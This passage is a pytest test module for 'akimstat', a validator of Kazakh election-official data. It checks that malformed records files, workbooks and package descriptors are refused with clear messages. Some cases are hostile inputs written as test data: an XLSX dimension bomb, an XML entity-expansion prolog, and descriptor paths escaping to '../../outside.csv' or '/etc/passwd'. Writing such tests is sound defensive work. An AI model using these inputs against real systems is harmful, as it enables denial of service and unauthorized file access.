"""A corpus of bad inputs, as ministry clerks type them: each case is named, and each must be
refused with the right exception, a message naming the file, row and column (or the
parameter), no traceback from the command line, and nothing written.

Decisions the corpus pins down (see also the Notes of `akimstat.data.validate`):

- A records file with a header and no rows is an error, "no records".
- Codes are exact: ``Female`` is refused with the list of codes; spaces around a code are
  typing noise and are stripped, so ``"female "`` is accepted.
- A cp1251 file is refused with a hint, and read when ``--encoding cp1251`` is given.
- Published counts keep their source's arithmetic; an official table must add up.
"""

from __future__ import annotations

import csv
import re
import time
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from akimstat.cli import main
from akimstat.data.records import check_records
from akimstat.data.dataset import check_table, load_dataset, role_of
from akimstat.errors import InputError, ParameterError
from akimstat.data.load import read_table
from akimstat.params import parameters_from
from akimstat.data.parameter_file import read_parameters

from conftest import DATA, GOOD_RECORD, RECORD_HEADER

FIELDS = RECORD_HEADER.split(",")
GOOD = dict(zip(FIELDS, GOOD_RECORD.split(",")))
COUNTS_HEADER = "cycle,scope,universe,variable,category,count,nobs,percent,source,quote,note"
FIGURES_HEADER = "cycle,scope,key,value,unit,source,quote,note"
POPULATION_HEADER = "variable,category,percent,source,note"


def record(n: int, **values) -> dict:
    """Return the good record with id `n` and `values` changed."""
    return {**GOOD, "record_id": f"R{n}", "person_id": f"P{n}", **values}


def records(*rows: dict, header=FIELDS, sep=",") -> str:
    """Return a records file: `header` and, for each row, its values of the header's columns."""
    lines = [sep.join(header)] + [sep.join(row.get(h, "") for h in header) for row in rows]
    return "\n".join(lines) + "\n"


def without(column: str) -> list[str]:
    return [h for h in FIELDS if h != column]


def renamed(old: str, new: str) -> list[str]:
    return [new if h == old else h for h in FIELDS]


def table(header: str, *rows: str) -> str:
    return "\n".join([header, *rows]) + "\n"


@dataclass
class Case:
    """One bad file: what it holds, and where and what the problem must say."""

    text: str | bytes | None  # None: written by `xlsx`
    row: int | None
    column: str | None
    says: str
    name: str = "records.csv"
    options: list[str] = field(default_factory=list)  # for `akimstat validate`
    encoding: str = "utf-8"
    newline: str = "\n"


def _xlsx(path: Path) -> None:
    """A sheet with a blank row 3 and a bad sex code in sheet row 4."""
    rows = [record(1), {h: "" for h in FIELDS}, record(2, sex="F")]
    pd.DataFrame(rows, columns=FIELDS).to_excel(path, index=False)


CASES = {
    # -- the shape of the file ---------------------------------------------------------------
    "empty_file": Case("", None, None, "a header line naming the columns"),
    "blank_lines_only": Case("\n\n\n", None, None, "a header line naming the columns"),
    "header_only": Case(RECORD_HEADER + "\n", None, None, "the file has no records"),
    "missing_column": Case(records(record(1), header=without("ethnicity")), 1, "ethnicity",
                           "missing from the header"),
    "extra_column": Case(records(record(1, colour="red"), header=FIELDS + ["colour"]), 1,
                         "colour", "only the columns record_id, person_id"),
    "renamed_column": Case(records({**record(1), "gender": "female"},
                                   header=renamed("sex", "gender")), 1, "gender",
                           "only the columns"),
    "name_like_column": Case(records(record(1, full_name="Asel Nurlanovna"),
                                     header=FIELDS + ["full_name"]), 1, "full_name",
                             "records are pseudonymous, names must not be in the file"),
    "ragged_row": Case(table(RECORD_HEADER, GOOD_RECORD, GOOD_RECORD.replace("R1,P1", "R2,P2")
                             + ",extra"), 3, None,
                       "this row has 12 (a value holding a comma must be in double quotes)"),
    "unclosed_quote": Case(table(RECORD_HEADER, GOOD_RECORD.replace("KZ-PAV-D01", '"KZ-PAV')),
                           2, None, "valid CSV (unexpected end of data)"),
    "duplicate_header": Case(records(record(1), header=FIELDS + ["sex"]), 1, "sex",
                             "each column named once"),
    # -- encodings, separators, line endings: the row is still the user's --------------------
    "cp1251_refused_with_hint": Case(records(record(1, district="Павлодар")), 2, None,
                                     "pass --encoding cp1251", encoding="cp1251"),
    "cp1251_read_with_option": Case(records(record(1, district="Павлодар"),
                                            record(2, sex="ж")), 3, "sex", "a sex code",
                                    encoding="cp1251", options=["--encoding", "cp1251"]),
    "bom": Case(records(record(1), record(2, sex="F")), 3, "sex", "one of male, female",
                encoding="utf-8-sig"),
    "semicolons": Case(records(record(1), record(2, age="41,5"), sep=";"), 3, "age",
                       "an age in whole years: a whole number"),
    "quoted_newline": Case(records(record(1, district='"KZ-PAV\nD01"'), record(2, sex="F")), 4,
                           "sex", "a sex code"),
    "windows_line_endings": Case(records(record(1), record(2), record(3, region="KZ-XX")), 4,
                                 "region", "an ISO 3166-2:KZ region code", newline="\r\n"),
    "xlsx_bad_cell": Case(None, 4, "sex", "a sex code", name="records.xlsx"),
    # -- values ------------------------------------------------------------------------------
    "text_in_age": Case(records(record(1, age="forty")), 2, "age", "a whole number"),
    "decimal_age": Case(records(record(1, age="41.5")), 2, "age", "a whole number"),
    "age_below_cycle_minimum": Case(records(record(1, age="22")), 2, "age",
                                    "at least 25, the legal minimum in cycle 2013"),
    "age_above_80": Case(records(record(1, age="81")), 2, "age", "from 18 to 80"),
    "age_below_18_before_2013": Case(records(record(1, cycle="pre-2013", age="17")), 2, "age",
                                     "from 18 to 80"),
    "empty_cell": Case(records(record(1, education="")), 2, "education", "the cell is empty"),
    "duplicate_record_id": Case(records(record(1), record(2), record(3, record_id="R1")), 4,
                                "record_id", "row 2 has it too"),
    "person_twice_in_a_cycle": Case(records(record(1), record(2, person_id="P1")), 3,
                                    "person_id", "each person once per cycle"),
    "id_with_spaces": Case(records(record(1, record_id="R 1")), 2, "record_id",
                           "a pseudonymous id"),
    "unknown_cycle": Case(records(record(1, cycle="2019")), 2, "cycle", "one of pre-2013, 2013, 2017"),
    "unknown_region": Case(records(record(1, region="KZ-PVL")), 2, "region",
                           "listed in data/codes/regions.csv"),
    "sex_outside_the_list": Case(records(record(1, sex="F")), 2, "sex",
                                 "a sex code: one of male, female"),
    "mixed_case_code": Case(records(record(1, sex="Female")), 2, "sex",
                            "a sex code: one of male, female"),
    "unknown_profession": Case(records(record(1, profession="astronaut")), 2, "profession",
                               "a profession code: one of pedagogue"),
    "unknown_ethnicity": Case(records(record(1, ethnicity="martian")), 2, "ethnicity",
                              "listed in data/codes/categories.csv"),
    "unknown_unit_type": Case(records(record(1, unit_type="city")), 2, "unit_type",
                              "a unit type code"),
    # -- published aggregates ---------------------------------------------------------------
    "negative_count": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,-5,2454,,article,,"),
                           2, "count", "0 or more", name="counts.csv"),
    "percent_over_100": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,,,120.5,article,,"),
                             2, "percent", "a percentage from 0 to 100", name="counts.csv"),
    "percent_with_decimal_comma": Case(table(COUNTS_HEADER,
                                             '2013,national,akims,sex,female,,,"11,4",article,,'),
                                       2, "percent", "written with a point", name="counts.csv"),
    "count_over_nobs": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,300,280,,article,,"),
                            2, "count", "at most 280", name="counts.csv"),
    "count_row_repeated": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,280,2454,,article,,",
                                     "2013,national,akims,sex,female,281,2454,,article,,"),
                               3, "category", "row 2 has it too", name="counts.csv"),
    "unknown_source": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,280,2454,,newspaper,,"),
                           2, "source", "a source id listed in sources.csv", name="counts.csv"),
    "official_parts_over_total": Case(table(
        COUNTS_HEADER, "2013,KZ-PAV,akims,profession,pedagogue,100,150,,un-mission,,",
        "2013,KZ-PAV,akims,profession,lawyer,60,150,,un-mission,,"),
        2, "count", "rows 2, 3 sum to 160", name="counts.csv"),
    "official_complete_table_short": Case(table(
        COUNTS_HEADER, "2013,KZ-PAV,akims,sex,female,20,150,,un-mission,,",
        "2013,KZ-PAV,akims,sex,male,120,150,,un-mission,,"),
        2, "count", "summing to its nobs, 150; rows 2, 3 sum to 140", name="counts.csv"),
    "figure_not_a_number": Case(table(FIGURES_HEADER, "2013,national,mean_age,47 years,years,article,,"),
                                2, "value", "a number", name="figures.csv"),
    "figure_given_twice": Case(table(FIGURES_HEADER, "2013,national,mean_age,47,years,article,,",
                                     "2013,national,mean_age,48,years,article,,"),
                               3, "key", "row 2 has it too", name="figures.csv"),
    "age_band_not_a_band_code": Case(table(COUNTS_HEADER, "2017,KZ-ATY,akims,age_band,36-45,7,48,,article,,"),
                                      2, "category", "an age band code", name="counts.csv"),
    "age_band_upside_down": Case(table(COUNTS_HEADER, "2017,KZ-ATY,akims,age_band,age_45_36,7,48,,article,,"),
                                 2, "category", "lower end at most its upper end", name="counts.csv"),
    "age_under_without_threshold": Case(table(COUNTS_HEADER,
                                              "2013,national,akims,age_under,under,,2454,80.3,article,,"),
                                        2, "category", "under_<years>", name="counts.csv"),
    "population_percent_over_100": Case(table(POPULATION_HEADER, "sex,female,151.7,census2009,"),
                                        2, "percent", "from 0 to 100", name="population.csv"),
}


def _write(case: Case, folder: Path) -> Path:
    path = folder / case.name
    if case.text is None:
        _xlsx(path)
    else:
        path.write_bytes(case.text.replace("\n", case.newline).encode(case.encoding))
    return path


def _listing(folder: Path) -> list[tuple[str, int, int]]:
    return sorted((str(p.relative_to(folder)), p.stat().st_size, p.stat().st_mtime_ns)
                  for p in folder.rglob("*"))


def _located(case: Case, path: Path) -> str:
    where = str(path)
    if case.row is not None:
        where += f", row {case.row}"
    if case.column is not None:
        where += f", column '{case.column}'"
    return where


def _in_group(line: str, case: Case, path: Path) -> bool:
    """Return whether `line` is a grouped message ("…, column 'sex': 'F' in 3 rows (2–4)")
    naming the case's column and, among its rows, the case's row."""
    found = re.match(rf"{re.escape(str(path))}, column '{re.escape(str(case.column))}': .* in "
                     r"\d+ rows \(([^)]*)\)", line.strip())
    if not found or case.row is None:
        return False
    for part in found.group(1).split(", "):
        low, _, high = part.partition("–")
        if part != "…" and int(low) <= case.row <= int(high or low):
            return True
    return False


@pytest.fixture(scope="module")
def published(published_only):
    return load_dataset(published_only)


@pytest.mark.parametrize("name", CASES)
def test_library_refuses_bad_file(name, tmp_path, published):
    case = CASES[name]
    path = _write(case, tmp_path)
    encoding = case.options[1] if case.options else None
    with pytest.raises(InputError) as info:
        frame = read_table(path, encoding)
        if role_of(frame) == "records":
            check_records(frame, published.codes, str(path))
        else:
            check_table(frame, role_of(frame), published.codes, published.sources, str(path))
    matching = [p for p in info.value.problems
                if (p.file, p.row, p.column) == (str(path), case.row, case.column)]
    assert matching, f"no problem at row {case.row}, column {case.column}: {info.value}"
    assert any(case.says in str(p) for p in matching), str(info.value)


@pytest.mark.parametrize("name", CASES)
def test_command_line_refuses_bad_file(name, tmp_path, monkeypatch, published_only):
    case = CASES[name]
    path = _write(case, tmp_path)
    monkeypatch.chdir(tmp_path)
    before = _listing(tmp_path)
    result = CliRunner().invoke(main, ["validate", str(path), "--data", str(published_only),
                                       *case.options])
    assert result.exit_code == 1, result.output
    assert result.output.startswith("akimstat: error:") and "Traceback" not in result.output
    line = next(line for line in result.output.splitlines() if _located(case, path) + ":" in line
                or _located(case, path) + ";" in line or _in_group(line, case, path))
    assert case.says in line, result.output
    assert _listing(tmp_path) == before  # nothing written


def test_every_case_has_a_distinct_file_text():
    texts = [c.text for c in CASES.values() if c.text is not None]
    assert len(CASES) >= 30 and len(set(texts)) == len(texts)


# -- accepted on purpose ----------------------------------------------------------------------
def test_spaces_around_codes_are_stripped(write_csv, published):
    row = record(1, sex=" female  ", region="KZ-PAV ", profession="\tpedagogue")
    frame = check_records(read_table(write_csv(records(row))), published.codes, "x")
    assert frame.loc[2, ["sex", "region", "profession"]].tolist() == ["female", "KZ-PAV", "pedagogue"]


def test_published_table_with_its_error_stays_loadable(published):
    professions = published.counts[(published.counts["variable"] == "profession")
                                   & (published.counts["source"] == "article")]
    assert professions["count"].sum() == 2464 and set(professions["nobs"]) == {2454}


def test_a_figure_two_sources_disagree_on_keeps_both(write_csv, published):
    """Two sources giving different values of one figure are both kept, for the audit to
    report (a figure given twice by the same source is still refused: `figure_given_twice`)."""
    path = write_csv(table(FIGURES_HEADER, "2013,national,mean_age,47,years,article,,",
                           "2013,national,mean_age,46,years,mgorod,,"), name="figures.csv")
    frame = check_table(read_table(path), "figures", published.codes, published.sources, str(path))
    assert frame["value"].tolist() == [47, 46]


def test_published_age_bands_are_accepted(write_csv, published):
    path = write_csv(table(COUNTS_HEADER, *(f"2017,KZ-ATY,akims,age_band,{code},{n},48,,article,,"
                                            for code, n in (("age_to_35", 7), ("age_36_45", 7),
                                                            ("age_46_55", 14), ("age_from_56", 20)))),
                     name="counts.csv")
    frame = check_table(read_table(path), "counts", published.codes, published.sources, str(path))
    assert frame["count"].sum() == 48


def test_official_table_that_adds_up_is_accepted(write_csv, published):
    path = write_csv(table(COUNTS_HEADER, "2013,KZ-PAV,akims,sex,female,30,150,,un-mission,,",
                           "2013,KZ-PAV,akims,sex,male,120,150,,un-mission,,"), name="counts.csv")
    frame = check_table(read_table(path), "counts", published.codes, published.sources, str(path))
    assert frame["count"].sum() == 150


# -- parameters --------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def shipped():
    return load_dataset(DATA)


PARAMETER_CASES = {
    "param_unknown_key": ({"colour": "red"}, "unknown parameter(s) colour"),
    "param_misspelt_key": ({"langauge": "kk"}, "unknown parameter(s) langauge"),
    "param_wrong_type": ({"alpha": "0.05"}, "parameter 'alpha' must be float; received '0.05'"),
    "param_text_for_a_number": ({"age_threshold": "fifty"}, "'age_threshold' must be int"),
    "param_unknown_language": ({"language": "de"}, "'language' must be one of kk, ru, en"),
    "param_not_a_mapping": (["cycle", "2013"], "expected a mapping of parameter names"),
}


@pytest.mark.parametrize("name", PARAMETER_CASES)
def test_bad_parameter_file_is_refused(name, tmp_path):
    values, says = PARAMETER_CASES[name]
    path = tmp_path / "report.yaml"
    path.write_text(yaml.safe_dump(values), encoding="utf-8")
    before = _listing(tmp_path)
    with pytest.raises(ParameterError) as info:
        read_parameters(path)
    assert str(info.value).startswith(str(path)) and says in str(info.value)
    assert _listing(tmp_path) == before


@pytest.mark.parametrize("name, values, says", [
    ("param_region_without_data", {"scope": "KZ-10"}, "parameter 'scope': no records for "
                                                      "region 'KZ-10'"),
    ("param_unknown_region", {"scope": "KZ-XXX"}, "parameter 'scope': no records for region"),
    ("param_baseline_without_data", {"baseline": "2009"}, "parameter 'baseline': no data for "
                                                         "cycle '2009'"),
    ("param_cycle_without_data", {"cycle": "2019"}, "parameter 'cycle': no data for cycle '2019'"),
])
def test_parameters_the_data_cannot_answer(name, values, says, shipped):
    from akimstat.report.scope import ScopeData

    with pytest.raises(ParameterError, match=says.replace("(", r"\(")):
        ScopeData(shipped, parameters_from(values))


# -- a million rows ----------------------------------------------------------------------------
def test_million_rows_with_one_bad_value(tmp_path, published):
    """1,000,000 records validate in seconds; the bad value on line 999,999 is found there."""
    path = tmp_path / "records.csv"
    tail = GOOD_RECORD.removeprefix("R1,P1")
    bad = 999_999 - 2  # line 2 holds record 0
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(RECORD_HEADER + "\n")
        handle.writelines(f"R{i},P{i}{tail}\n" for i in range(bad))
        handle.write(f"R{bad},P{bad}{tail.replace('female', 'F')}\n")
        handle.writelines(f"R{i},P{i}{tail}\n" for i in range(bad + 1, 1_000_000))
    start = time.process_time()  # CPU seconds: wall time on a busy shared machine says little
    with pytest.raises(InputError) as info:
        check_records(read_table(path), published.codes, str(path))
    seconds = time.process_time() - start
    [problem] = info.value.problems
    assert (problem.row, problem.column, problem.value) == (999_999, "sex", "F")
    assert seconds < 60, f"1M rows took {seconds:.0f} s"


def test_many_problems_of_one_kind_are_one_line_and_validate_hides_none(write_csv,
                                                                        published_only):
    """25 distinct bad values of one kind: one line naming a few of them, the count and the
    rows (issue 24: "… and 1 976 more problems" hid the errors); 25 kinds: every one shown."""
    path = write_csv(records(*(record(n, sex=f"F{n}") for n in range(1, 26))))
    result = CliRunner().invoke(main, ["validate", str(path), "--data", str(published_only)])
    lines = result.output.splitlines()
    assert result.exit_code == 1 and lines[0] == "akimstat: error: 25 problems in the input:"
    assert len(lines) == 2 and lines[1].strip().startswith(
        f"{path}, column 'sex': 'F1', 'F2', 'F3', … (25 distinct values) in 25 rows (2–26)"), lines
    extra = [f"extra{n}" for n in range(1, 26)]  # 25 columns not in the schema: 25 kinds
    kinds = write_csv(records(record(1), header=[*FIELDS, *extra]))
    result = CliRunner().invoke(main, ["validate", str(kinds), "--data", str(published_only)])
    assert len(result.output.splitlines()) == 26 and "more problem" not in result.output


def test_one_bad_value_in_many_rows_is_one_message(write_csv, published_only):
    """The same bad value in 25 rows is one message naming the value, the count and the rows,
    not 25 lines (issue 16)."""
    rows = [record(n, sex="F" if n != 10 else "female") for n in range(1, 27)]
    path = write_csv(records(*rows))
    result = CliRunner().invoke(main, ["validate", str(path), "--data", str(published_only)])
    lines = result.output.splitlines()
    assert result.exit_code == 1 and lines[0] == "akimstat: error: 25 problems in the input:"
    assert len(lines) == 2, result.output
    assert lines[1].strip().startswith(
        f"{path}, column 'sex': 'F' in 25 rows (2–10, 12–27); expected a sex code: one of "
        "male, female (Men, Women; as in data/codes/categories.csv)")


# == round two: workbooks that ask too much, descriptors that reach outside ====================
# Each case is refused by `akimstat validate` with exit status 1, one line naming the file (and
# row and column, or the descriptor's entry), no traceback, and nothing written.
import json  # noqa: E402
import os  # noqa: E402
import shutil  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402

from workbooks import cells, header_and_rows, write_workbook  # noqa: E402

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _refused(args: list[str], folder: Path, where: str, says: str):
    """Run `akimstat` with `args` in `folder`; check the refusal; return the output."""
    before = _listing(folder)
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1, result.output
    message = "".join(line for line in result.output.splitlines(keepends=True)
                      if not line.startswith("akimstat: warning:"))
    assert message.startswith("akimstat: error:") and "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert any(where in line and says in line for line in result.output.splitlines()), result.output
    assert _listing(folder) == before  # nothing written
    return result.output


def _huge_shared_text(megabytes: int):
    yield "<si><t>"
    for _ in range(megabytes):
        yield "a" * 2**20
    yield "</t></si>"


def _book(sheet_data: str, **kw):
    return lambda path: write_workbook(path, {"Sheet1": sheet_data}, **kw)


RECORDS_ROWS = header_and_rows(FIELDS, GOOD_RECORD.split(","))
WORKBOOKS = {
    # name: (write(path), row, column, says)
    "xlsx_dimension_bomb": (_book(cells({1: {"A": "record_id"}}) + '<row r="1048576"><c r="XFD1048576">'
                                  '<v>1</v></c></row>', dimension="A1:XFD1048576"),
                            1048576, "XFD", "a sheet of at most 1,024 columns"),
    "xlsx_row_beyond_excel": (_book(cells({1: {"A": "record_id"}, 1048577: {"A": "R1"}})),
                              1048577, None, "a sheet of at most 1,048,576 rows"),
    "xlsx_huge_shared_cell": (lambda path: write_workbook(
        path, {"Sheet1": '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'},
        shared_stream=_huge_shared_text(40)), None, None,
        "a text of at most 32,767 characters, Excel's limit (shared text number 1 is longer)"),
    "xlsx_huge_inline_cell": (_book(cells({**RECORDS_ROWS, 3: {"E": "д" * 40_000}})), 3, "E",
                              "a text of at most 32,767 characters, Excel's limit (cell is longer)"),
    "xlsx_entity_bomb": (_book(cells(RECORDS_ROWS), prolog='<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                               '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'),
                         None, None, "declares a document type, which XLSX never does"),
    "xlsx_encrypted": (lambda path: path.write_bytes(OLE_MAGIC + bytes(504) + "EncryptionInfo".encode(
        "utf-16-le") + bytes(1000)), None, None, "this one is encrypted (password-protected)"),
    "xlsx_old_xls_renamed": (lambda path: path.write_bytes(OLE_MAGIC + bytes(2000)), None, None,
                             "this is an older Excel file (.xls)"),
    "xlsx_not_a_zip": (lambda path: path.write_text(RECORD_HEADER + "\n" + GOOD_RECORD + "\n"),
                       None, None, "a readable XLSX workbook (not a zip archive"),
    "xlsx_broken_xml": (lambda path: write_workbook(path, {"Sheet1": "<row r='1'><c r='A1'>"}),
                        None, None, "xl/worksheets/sheet1.xml is not valid XML"),
    "xlsx_without_sheets": (lambda path: write_workbook(path, {}), None, None,
                            "a workbook with at least one sheet"),
}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_workbook_asking_too_much_is_refused(name, tmp_path, published_only):
    write, row, column, says = WORKBOOKS[name]
    path = tmp_path / "records.xlsx"
    write(path)
    where = _located(Case(None, row, column, says), path)
    start = time.process_time()  # CPU seconds: the machine may be shared and busy
    _refused(["validate", str(path), "--data", str(published_only)], tmp_path, where, says)
    assert time.process_time() - start < 10


def test_dimension_bomb_is_refused_in_two_seconds_and_300_mb(tmp_path):
    """The 5 KB workbook that made the reader grow to 24 GB: time and peak memory of a process."""
    path = tmp_path / "bomb.xlsx"
    WORKBOOKS["xlsx_dimension_bomb"][0](path)
    assert path.stat().st_size < 5000
    script = (
        "import re, sys, time\n"
        "from akimstat.errors import InputError\n"
        "from akimstat.data.load import read_table\n"
        "start = time.process_time()\n"  # CPU seconds: the machine may be shared and busy
        "try:\n"
        "    read_table(sys.argv[1])\n"
        "except InputError as exc:\n"
        "    seconds = time.process_time() - start\n"
        "    status = open('/proc/self/status').read()\n"  # VmHWM: this program's peak, not its parent's
        "    print(seconds, re.search(r'VmHWM:\\s+(\\d+) kB', status).group(1))\n"
        "    print(exc)\n")
    # A hard ceiling too, so that a regression fails here instead of exhausting the machine.
    limit = "import resource; resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30, 4 * 2**30))\n"
    result = subprocess.run([sys.executable, "-c", limit + script, str(path)], capture_output=True,
                            text=True, timeout=60)
    seconds, peak_kb = map(float, result.stdout.split("\n")[0].split())
    assert "at most 1,024 columns" in result.stdout, result.stdout + result.stderr
    assert seconds < 2 and peak_kb < 300 * 1024, (seconds, peak_kb)


def test_slow_workbook_is_refused_when_time_runs_out(tmp_path):
    from akimstat.data.xlsx import read_first_sheet

    path = write_workbook(tmp_path / "slow.xlsx", {"Sheet1": cells(
        {r: {"A": f"R{r}", "B": "x"} for r in range(1, 50_001)})})
    with pytest.raises(InputError, match=r"a workbook read within 0.01 s \(this one takes longer: "
                                         r"save it as CSV UTF-8"):
        read_first_sheet(path, max_seconds=0.01)
    assert len(read_first_sheet(path).cells) == 50_000


def test_shared_text_declared_too_large_is_refused_before_reading(tmp_path, monkeypatch):
    from akimstat.data import xlsx

    monkeypatch.setattr(xlsx, "MAX_SHARED_STRINGS", 2**20)
    path = write_workbook(tmp_path / "big.xlsx", {"Sheet1": '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'},
                          shared=["a" * 1000] * 2000)
    with pytest.raises(InputError, match="shared text unpacks to at most 1 MB"):
        xlsx.read_first_sheet(path)


def test_workbook_values_read_as_pandas_reads_them(tmp_path):
    """The bounded reader gives the text pandas.read_excel(dtype=str) gave: numbers, dates,
    booleans, blank rows kept out, sheet rows as the index."""
    from akimstat.data.xlsx import read_first_sheet

    frame = pd.DataFrame({"id": ["R1", None, "R3"], "age": [41, None, 10**20], "share": [1.5, None, 0.1],
                          "date": pd.to_datetime(["2013-12-04", None, "1999-01-31"]),
                          "flag": [True, None, False]})
    path = tmp_path / "values.xlsx"
    frame.to_excel(path, index=False)
    expected = pd.read_excel(path, header=None, dtype=str, keep_default_na=False)
    got = read_first_sheet(path).cells
    assert got.loc[[0, 1, 3]].to_numpy().tolist() == expected.loc[[0, 1, 3]].to_numpy().tolist()
    assert list(got.index) == [0, 1, 3]  # sheet row 3 is blank


def _data_copy(tmp_path: Path) -> Path:
    root = tmp_path / "data"
    shutil.copytree(DATA, root)
    return root


def _descriptor(root: Path) -> dict:
    return json.loads((root / "datapackage.json").read_text(encoding="utf-8"))


def _edit(change):
    """Return a case that rewrites a copy's descriptor with `change(descriptor)`."""
    def apply(root: Path):
        descriptor = _descriptor(root)
        change(descriptor)
        (root / "datapackage.json").write_text(json.dumps(descriptor), encoding="utf-8")
    return apply


def _replace(value):
    return lambda root: (root / "datapackage.json").write_text(json.dumps(value), encoding="utf-8")


def _resource(index: int, **values):
    return _edit(lambda d: d["resources"][index].update(values))


def _outside_link(root: Path):
    outside = root.parent / "outside.csv"
    shutil.copy(root / "codes" / "regions.csv", outside)
    (root / "codes" / "regions.csv").unlink()
    (root / "codes" / "regions.csv").symlink_to(outside)


def _records_twice(d):
    d["resources"].append(dict(d["resources"][8]))


def _regions_twice(root: Path):
    shutil.copy(root / "codes" / "regions.csv", root / "codes" / "regions-copy.csv")
    _edit(lambda d: d["resources"].append({**d["resources"][0], "path": "codes/regions-copy.csv"}))(root)


def _records_copied(root: Path):
    shutil.copy(root / "synthetic" / "records-2013.csv", root / "synthetic" / "copy.csv")
    _edit(lambda d: d["resources"].append({**d["resources"][8], "path": "synthetic/copy.csv"}))(root)


def _write_descriptor(data: bytes):
    return lambda root: (root / "datapackage.json").write_bytes(data)


def _descriptor_folder(root: Path):
    (root / "datapackage.json").unlink()
    (root / "datapackage.json").mkdir()


DESCRIPTORS = {
    # name: (change(root), where after "datapackage.json", says)
    "path_climbs_out": (_resource(0, path="../../outside.csv"), ", column 'resources[0].path'",
                        "a path inside the data folder"),
    "path_absolute": (_resource(0, path="/etc/passwd"), ", column 'resources[0].path'",
                      "a path inside the data folder"),
    "path_link_outside": (_outside_link, ", column 'resources[0].path'",
                          "a symbolic link to a file outside it"),
    "records_listed_twice": (_edit(_records_twice), ", column 'resources[10].path'",
                             "each file listed once (resources[8] lists it too)"),
    "regions_listed_twice": (_regions_twice, ", column 'resources[10].akimstat:role'",
                             "one resource with this role (resources[0] has it too)"),
    "path_missing": (_edit(lambda d: d["resources"][2].pop("path")), ", column 'resources[2].path'",
                     "the path of a file, as text"),
    "path_an_int": (_resource(2, path=7), ", column 'resources[2].path'", "got 7; expected the path"),
    "path_null": (_resource(2, path=None), ", column 'resources[2].path'", "the path of a file"),
    "path_a_list": (_resource(2, path=["codes/a.csv", "codes/b.csv"]), ", column 'resources[2].path'",
                    "a list of parts is not supported"),
    "encoding_an_int": (_resource(3, encoding=1251), ", column 'resources[3].encoding'",
                        "the name of a text encoding"),
    "resources_a_dict": (_edit(lambda d: d.update(resources={"a": 1})), ", column 'resources'",
                         "a list of resources"),
    "resources_a_string": (_edit(lambda d: d.update(resources="codes/regions.csv")),
                           ", column 'resources'", "a list of resources"),
    "resources_ints": (_edit(lambda d: d.update(resources=[1, 2])), ", column 'resources[0]'",
                       "a resource: an object"),
    "descriptor_a_list": (_replace([{"resources": []}]), ": got 'list'", "a JSON object"),
    "descriptor_a_string": (_replace("data"), ": got 'str'", "a JSON object"),
    "descriptor_null": (_replace(None), ": got 'NoneType'", "a JSON object"),
    "descriptor_cp1251": (_write_descriptor('{"title": "Әкімдер"}'.encode("cp1251", "replace")
                                            .replace(b"?", "Акимы".encode("cp1251"))), ", row 1",
                          "JSON in UTF-8"),
    "descriptor_nested_deep": (_write_descriptor(b"[" * 100_000 + b"]" * 100_000), "",
                               "nested at most a few hundred levels deep"),
    "descriptor_a_folder": (_descriptor_folder, "", "a file (this is a folder)"),
}


@pytest.mark.parametrize("name", DESCRIPTORS)
def test_descriptor_reaching_outside_or_malformed_is_refused(name, tmp_path):
    change, where, says = DESCRIPTORS[name]
    root = _data_copy(tmp_path)
    change(root)
    _refused(["validate", str(root)], tmp_path, str(root / "datapackage.json") + where, says)


def test_record_file_copied_under_another_name_is_refused(tmp_path):
    root = _data_copy(tmp_path)
    _records_copied(root)
    _refused(["validate", str(root)], tmp_path, f"{root / 'synthetic' / 'copy.csv'}, column "
             "'record_id'", f"a record_id used only once; {root / 'synthetic' / 'records-2013.csv'}"
             " has it too")


def test_descriptor_with_a_bom_is_read(tmp_path):
    root = _data_copy(tmp_path)
    path = root / "datapackage.json"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert len(load_dataset(root).records) > 0


# -- round two: values that made tracebacks, and files that validated but failed a render ------
BORN = renamed("age", "birth_year")
ROUND_TWO = {
    "age_too_large_for_int64": Case(records(record(1, age="99999999999999999999999")), 2, "age",
                                    "a whole number, of at most 15 digits"),
    "age_infinite": Case(records(record(1, age="inf")), 2, "age", "of at most 15 digits"),
    "birth_year_fractional": Case(records(record(1, birth_year="1966.5"), header=BORN), 2,
                                  "birth_year", "or a year of birth (1963)"),
    "birth_year_too_young": Case(records(record(1, birth_year="2000"), header=BORN), 2, "birth_year",
                                 "a date or year of birth giving an age in whole years from 18 to "
                                 "80 at the election (it gives an age of 13)"),
    "birth_year_under_cycle_minimum": Case(records(record(1, birth_year="1990"), header=BORN), 2,
                                           "birth_year", "a date or year of birth giving an age "
                                           "of at least 25, the legal minimum in cycle 2013"),
    "record_id_with_a_line_break": Case(records(record(1, record_id='"R\n1"')), 2, "record_id",
                                        "a pseudonymous id"),
    "count_too_large_for_int64": Case(table(COUNTS_HEADER, "2013,national,akims,sex,female,"
                                            "99999999999999999999,2454,,article,,"), 2, "count",
                                      "of at most 15 digits", name="counts.csv"),
    "unknown_category_in_counts": Case(table(COUNTS_HEADER, "2013,national,akims,sex,woman,280,2454,,"
                                             "article,,"), 2, "category", "a sex code: one of",
                                       name="counts.csv"),
    "unknown_age_under_category": Case(table(COUNTS_HEADER, "2013,national,akims,age_under,young,,"
                                             "2454,30.5,article,,"), 2, "category",
                                       "under_<years>, the threshold in the code", name="counts.csv"),
    "unknown_category_in_population": Case(table(POPULATION_HEADER, "sex,woman,51.8,census2009,"),
                                           2, "category", "a sex code: one of",
                                           name="population.csv"),
    "figure_infinite": Case(table(FIGURES_HEADER, "2013,national,mean_age,inf,years,article,,"), 2,
                            "value", "of at most 15 digits", name="figures.csv"),
